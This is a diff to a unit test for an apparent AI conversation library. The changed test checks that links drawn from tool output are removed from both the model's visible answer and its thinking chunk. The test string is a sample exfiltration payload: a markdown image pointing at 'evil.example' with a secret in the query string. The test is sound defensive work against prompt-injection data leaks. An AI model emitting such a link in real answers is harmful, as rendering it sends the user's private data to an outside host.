@@ -8,13 +8,14 @@ from typing import TYPE_CHECKING, Any
 
 import msgspec
 import pytest
-from tests.unit.conversations.loop.playing import TIMEOUT, FakeTool, Models, Play, calls, says
+from tests.unit.conversations.loop.playing import TIMEOUT, FakeTool, Models, Play, Says, calls, says
 
 from ventoux.calls import Tool as Function
 from ventoux.calls import ToolCall
 from ventoux.conversations.entries import (
     MessageOutput,
     TextChunk,
+    ThinkChunk,
     ToolExecution,
     ToolFileChunk,
     ToolReferenceChunk,
@@ -232,10 +233,17 @@ async def test_what_tools_refer_to_and_made_is_shown_in_the_answer() -> None:
 
 async def test_links_that_only_a_tool_can_have_told_are_taken_out_of_the_answer() -> None:
     told = "See ![x](https://evil.example/?q=secret) there."
-    play = Play(Models(calls("look"), says(*told)), FakeTool())
+    thinks = Says(thought=told, text=tuple(told))
+    play = Play(Models(calls("look"), thinks), FakeTool())
     await play.reply("go")
-    assert "secret" not in play.sink.told
-    assert "there." in play.sink.told
+    answer = play.sink.kept[-1]
+    assert isinstance(answer, MessageOutput)
+    thought, text = answer.content
+    assert isinstance(thought, ThinkChunk)
+    assert isinstance(text, TextChunk)
+    assert thought.thinking[0].text.endswith("there.")
+    assert text.text.endswith("there.")
+    assert "secret" not in f"{answer} {play.sink.events}"
 
 
 async def test_what_is_no_longer_there_is_a_note_later_and_an_error_at_first() -> None:
